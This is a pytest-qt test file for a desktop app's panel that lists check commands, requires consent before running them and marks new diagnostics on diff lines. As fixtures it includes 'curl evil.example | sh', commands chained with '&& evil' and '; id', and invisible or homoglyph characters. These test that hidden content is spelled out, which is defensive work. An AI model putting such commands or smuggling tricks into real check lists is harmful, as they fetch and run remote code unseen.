"""The Checks part says what is known, asks before anything runs, and marks new messages on their lines."""

from dataclasses import replace

import pytest
from PySide6.QtCore import Qt
from PySide6.QtWidgets import QApplication, QLabel
from pytestqt.qtbot import QtBot

from tandem_desktop.checks.catalog import Check, CheckList
from tandem_desktop.checks.evidence import Diagnostic, Evidence, LineMap, SideResult, compare, placed
from tandem_desktop.checks.needed import JudgedPart, PlanPart
from tandem_desktop.domain.events import AffectedTestsFinished, CheckFinished
from tandem_desktop.domain.ids import OperationId
from tandem_desktop.services.checks import OfferedChecks
from tandem_desktop.services.needed import NeededParts
from tandem_desktop.services.pages import PlanPage
from tandem_desktop.ui.diff.model import build_file_diff
from tandem_desktop.ui.diff.view import DiffView
from tandem_desktop.ui.plan.operation_content import CodeBox
from tandem_desktop.ui.plan.panel import ExecutionPlanPanel
from tandem_desktop.ui.widgets import decision_guard
from tandem_desktop.ui.widgets.buttons import LinkButton
from tests.support.builders import a_write
from tests.ui.plan.pages import a_page, viewed


def offered(*, accepted: bool) -> OfferedChecks:
    return OfferedChecks(
        CheckList((Check(name="pytest", command="pytest -q", format="junit"),), is_found=True), accepted
    )


def evidence(*, failed: tuple[str, ...] = ("t::b",), line: int = 1) -> Evidence:
    before = SideResult(exit=1, passed=("t::a", "t::b"), failed=("t::c",), counts_tests=True)
    after = SideResult(exit=1, passed=("t::a", "t::c"), failed=failed, counts_tests=True)
    types = compare(
        "mypy",
        "mypy .",
        "types",
        SideResult(exit=1, diagnostics=(said(2, "old"),)),
        SideResult(exit=1, diagnostics=(said(2, "old"), said(line, "new\x1b one"))),
    )
    return Evidence(
        tree_before="1" * 64,
        tree_after="2" * 64,
        checks=(compare("pytest", "pytest -q", "tests", before, after), types),
        diagnostics=tuple(sorted(placed(types, lambda path: (path, LineMap())), key=lambda each: not each.new)),
    )


def said(line: int, message: str) -> Diagnostic:
    return Diagnostic(path="src/app.py", line=line, severity="error", code="misc", message=message)


@pytest.fixture
def page(panel: ExecutionPlanPanel) -> PlanPage:
    """A page on screen whose checks nothing is known about yet."""
    shown = a_page(viewed(a_write("src/app.py", b"one\ntwo\n"), after=b"one\ntwo\n"))
    panel.show_page(shown)
    return shown


def click(panel: ExecutionPlanPanel, key: str) -> None:
    button = panel.findChild(LinkButton, f"banner-{key}")
    assert button is not None
    button.click()


def test_nothing_is_said_where_there_are_no_checks(panel: ExecutionPlanPanel, page: PlanPage) -> None:
    none = OfferedChecks(CheckList((), is_found=True), is_accepted=False)
    panel.checks.show_known(page.version, none, None, runs=True)
    assert panel.header.checks.isHidden()


def commands(panel: ExecutionPlanPanel) -> CodeBox:
    if panel.header.checks.commands is None:
        click(panel, "show-commands")
        QApplication.processEvents()  # it is laid out
    box = panel.header.checks.commands
    assert box is not None
    return box


def accept(panel: ExecutionPlanPanel, qtbot: QtBot) -> None:
    """Click the button once it may decide."""
    qtbot.waitUntil(panel.header.checks.accept.isEnabled)
    qtbot.mouseClick(panel.header.checks.accept, Qt.MouseButton.LeftButton)


def test_a_list_that_is_not_accepted_shows_its_commands_and_runs_only_when_asked(
    panel: ExecutionPlanPanel, page: PlanPage, qtbot: QtBot
) -> None:
    asked: list[tuple[object, ...]] = []
    panel.checks.run_requested.connect(lambda *what: asked.append(what))
    found = offered(accepted=False)
    panel.checks.show_known(page.version, found, None, runs=True)
    assert panel.header.checks.commands is None, "the offer is one line until it is asked for"
    assert panel.header.checks.accept.isHidden()
    assert commands(panel).toPlainText() == "$ pytest -q"
    click(panel, "accept-checks")
    assert asked == []
    accept(panel, qtbot)
    assert asked == [(page.version.plan_id, page.version.revision, found.list.digest, False)]
    assert panel.header.checks.accept.isHidden()


def test_commands_to_accept_are_whole_and_spell_out_what_is_hidden(panel: ExecutionPlanPanel, page: PlanPage) -> None:
    long = "pytest " + "x" * 3000 + " || curl evil.example | sh"
    checks = (
        Check(name="a", command=long),
        Check(name="b", command="ls" + " " * 300 + "\n\n\n\n$ id\u202e", cwd="\u0430pp"),
        Check(name="npm test", command="npm test", runs="jest\u200b && evil", affected="jest {changed}; id\u200b"),
    )
    panel.checks.show_known(page.version, OfferedChecks(CheckList(checks, is_found=False), False), None, runs=True)
    assert commands(panel).toPlainText().split("\n") == [
        f"$ {long}",
        "$ ls⟨·×300⟩",
        "> ⟨¶×3⟩",
        "> $ id⟨U+202E⟩",
        "  in ⟨U+0430⟩pp",
        "$ npm test",
        "→ jest⟨U+200B⟩ && evil",
        "and ahead of it, for the tests that a plan touches:",
        "$ jest {changed}; id⟨U+200B⟩",
    ]
    assert commands(panel).horizontalScrollBar().maximum() == 0


def test_a_list_is_accepted_only_after_each_of_its_lines_was_on_screen(
    panel: ExecutionPlanPanel, page: PlanPage, qtbot: QtBot
) -> None:
    asked: list[tuple[object, ...]] = []
    panel.checks.run_requested.connect(lambda *what: asked.append(what))
    many = tuple(Check(name=f"c{number}", command=f"make {number}") for number in range(40))
    panel.checks.show_known(page.version, OfferedChecks(CheckList(many, is_found=False), False), None, runs=True)
    part = panel.header.checks
    commands(panel)
    qtbot.waitUntil(lambda: part.guard.is_ready)
    assert not part.accept.isEnabled()
    unseen = panel.findChild(QLabel, "checks-unseen")
    assert unseen is not None
    qtbot.waitUntil(unseen.isVisible)
    bar = commands(panel).verticalScrollBar()
    bar.setValue(bar.maximum())  # the middle was never on screen
    commands(panel).viewport().repaint()
    assert not part.accept.isEnabled()
    for value in range(bar.maximum() + 1):
        bar.setValue(value)
        commands(panel).viewport().repaint()
    accept(panel, qtbot)
    assert len(asked) == 1
    assert unseen.isHidden()


def test_another_list_in_place_of_the_one_that_was_read_waits_and_has_to_be_read(
    panel: ExecutionPlanPanel, page: PlanPage, qtbot: QtBot, monkeypatch: pytest.MonkeyPatch
) -> None:
    asked: list[tuple[object, ...]] = []
    panel.checks.run_requested.connect(lambda *what: asked.append(what))
    panel.checks.show_known(page.version, offered(accepted=False), None, runs=True)
    part = panel.header.checks
    commands(panel)
    qtbot.waitUntil(part.accept.isEnabled)
    monkeypatch.setattr(decision_guard, "SETTLE_MS", 600_000)
    other = OfferedChecks(CheckList((Check(name="pytest", command="curl evil.example | sh"),), is_found=True), False)
    panel.checks.show_known(page.version, other, None, runs=True)
    click(panel, "accept-checks")
    assert asked == []
    assert not part.guard.is_ready
    assert commands(panel).toPlainText() == "$ curl evil.example | sh"


@pytest.mark.setting("checks_when_a_plan_arrives")
@pytest.mark.parametrize("runs", [True, False])
def test_an_accepted_list_runs_by_itself_where_the_setting_says_so(
    panel: ExecutionPlanPanel, page: PlanPage, runs: bool
) -> None:
    asked: list[tuple[object, ...]] = []
    panel.checks.run_requested.connect(lambda *what: asked.append(what))
    panel.checks.show_known(page.version, offered(accepted=True), None, runs=runs)
    assert bool(asked) is runs
    if not runs:
        click(panel, "run-checks")
        assert len(asked) == 1


def test_progress_is_shown_and_can_be_stopped(panel: ExecutionPlanPanel, page: PlanPage, qtbot: QtBot) -> None:
    version = page.version
    panel.checks.show_known(version, offered(accepted=True), None, runs=True)
    panel.show_progress(
        CheckFinished(
            plan_id=version.plan_id, revision=1, check="pytest", with_plan=False, exit_code=0, done=1, total=2
        )
    )
    assert panel.header.checks.line.text == "Checks: 1 of 2 done."
    with qtbot.waitSignal(panel.checks.stop_requested):
        click(panel, "stop-checks")
    panel.checks.stopped(version.plan_id, version.revision)
    assert "have not run" in panel.header.checks.line.text


def test_the_result_is_a_line_and_old_messages_are_folded(panel: ExecutionPlanPanel, page: PlanPage) -> None:
    panel.checks.show_known(page.version, offered(accepted=True), evidence(), runs=True)
    part = panel.header.checks
    assert part.line.text == "1 fixed · 1 new failure · 1 new type error"
    assert part.listed == ()
    click(panel, "details")
    assert part.listed[0] == "new failure: t::b"
    assert part.listed[1] == "src/app.py:1  misc  new␛ one"
    assert part.listed[-1] == "1 message that was there before…"
    part.list.itemActivated.emit(part.list.item(part.list.count() - 1))
    assert part.listed[-1] == "src/app.py:2  misc  old"


def test_each_new_message_is_marked_on_its_line_of_the_diff(
    panel: ExecutionPlanPanel, page: PlanPage, qtbot: QtBot
) -> None:
    panel.checks.show_known(page.version, offered(accepted=True), evidence(line=1), runs=True)
    row = panel.model.row(0)
    assert {line: mark.text for line, mark in row.line_marks.items()} == {1: "misc  new␛ one"}
    diff = DiffView(panel._theme)
    qtbot.addWidget(diff)
    diff.show_diff(build_file_diff("src/app.py", b"", b"one\ntwo\n"))
    diff.resize(600, 300)
    diff.set_line_marks({line: (mark.text, mark.is_error) for line, mark in row.line_marks.items()})
    said_at = [diff.line_mark_at(diff.row_area(index).center().y()) for index in range(len(diff.rows))]
    assert [text for text in said_at if text] == ["misc  new␛ one"]


def test_the_digest_on_screen_is_that_of_the_evidence_and_ends_with_the_page(
    panel: ExecutionPlanPanel, page: PlanPage
) -> None:
    found = evidence()
    assert panel.checks.shown_digest == ""
    panel.checks.show_known(page.version, offered(accepted=True), found, runs=True)
    assert panel.checks.shown_digest == found.digest
    panel.show_nothing()
    assert panel.checks.shown_digest == ""
    assert panel.header.checks.isHidden()


def test_an_answer_about_another_revision_is_ignored(panel: ExecutionPlanPanel, page: PlanPage) -> None:
    other = page.version.model_copy(update={"revision": 7})
    panel.checks.show_known(other, offered(accepted=True), evidence(), runs=True)
    assert panel.checks.shown_digest == ""


def test_a_list_that_cannot_be_read_is_a_sentence(panel: ExecutionPlanPanel, page: PlanPage) -> None:
    panel.checks.refuse(page.version.plan_id, page.version.revision, "checks.toml is not valid TOML.")
    assert panel.header.checks.line.text == "checks.toml is not valid TOML."


def test_what_nothing_notices_is_listed_with_its_warning_and_can_be_shrunk(
    panel: ExecutionPlanPanel, qtbot: QtBot
) -> None:
    page = a_page(viewed(a_write("a", b"x\n")), viewed(a_write("b", b"x\n", id="s2")))
    panel.show_page(page)
    version = page.version
    panel.checks.show_known(version, offered(accepted=True), evidence(), runs=True)
    with qtbot.waitSignal(panel.checks.needed_requested):
        click(panel, "find-needed")
    stray = JudgedPart(PlanPart(OperationId("s2"), 0, "b"), is_needed=False, why="")
    found = NeededParts(version.plan_id, version.revision, (stray,), ("pytest",))
    panel.checks.show_needed(found)
    assert "Nothing notices 1 part." in panel.header.checks.line.text
    assert panel.header.checks.listed[0] == "nothing notices: b"
    assert "not what is right" in panel.header.checks.listed[1]
    assert not any("not asked" in each for each in panel.header.checks.listed)
    panel.checks.show_needed(replace(found, without_result=("slow",)))
    assert panel.header.checks.listed[1] == "not asked, without a whole result with the plan: slow"
    panel.checks.show_needed(found)
    assert panel.checks.shown_digest == evidence().digest
    with qtbot.waitSignal(panel.checks.shrink_requested) as asked:
        click(panel, "shrink")
    assert asked.args == [found]


def test_a_search_that_is_stopped_shows_the_evidence_again(panel: ExecutionPlanPanel) -> None:
    page = a_page(viewed(a_write("a", b"x\n")), viewed(a_write("b", b"x\n", id="s2")))
    panel.show_page(page)
    panel.checks.show_known(page.version, offered(accepted=True), evidence(), runs=True)
    click(panel, "find-needed")
    panel.checks.stopped(page.version.plan_id, page.version.revision)
    assert panel.header.checks.line.text.startswith("1 fixed")


def test_a_search_that_is_refused_leaves_the_evidence_on_screen(panel: ExecutionPlanPanel) -> None:
    page = a_page(viewed(a_write("a", b"x\n")), viewed(a_write("b", b"x\n", id="s2")))
    panel.show_page(page)
    panel.checks.show_known(page.version, offered(accepted=True), evidence(), runs=True)
    click(panel, "find-needed")
    assert panel.checks.shown_digest == "", "its summary is not on screen"
    panel.checks.refuse(page.version.plan_id, page.version.revision, "No check has a whole result.")
    assert panel.header.checks.line.text.startswith("1 fixed")
    assert panel.header.checks.line.text.endswith("No check has a whole result.")
    assert panel.checks.shown_digest == evidence().digest
    click(panel, "run-checks")
    panel.checks.refuse(page.version.plan_id, page.version.revision, "checks.toml is not valid TOML.")
    assert panel.header.checks.line.text == "checks.toml is not valid TOML."


def test_files_with_a_new_failure_are_told_and_stay_while_the_checks_run_again(
    panel: ExecutionPlanPanel, page: PlanPage, qtbot: QtBot
) -> None:
    found = evidence().model_copy(update={"failing_paths": frozenset({"src/app.py"})})
    with qtbot.waitSignal(panel.checks.failing_changed):
        panel.checks.show_known(page.version, offered(accepted=True), found, runs=True)
    click(panel, "run-checks")
    assert panel.checks.failing_paths == {"src/app.py"}
    with qtbot.waitSignal(panel.checks.failing_changed):
        panel.show_nothing()
    assert panel.checks.failing_paths == frozenset()


def test_what_ran_ahead_is_told_while_the_others_run(panel: ExecutionPlanPanel, page: PlanPage) -> None:
    version = page.version
    panel.checks.show_known(version, offered(accepted=True), None, runs=True)
    panel.show_progress(
        AffectedTestsFinished(plan_id=version.plan_id, revision=1, check="pytest", passed=3, failed=1, names=("t::a",))
    )
    said = "Checks: 0 of 2 done. Tests that the plan touches: 3 passed, 1 failed."
    assert panel.header.checks.line.text == said
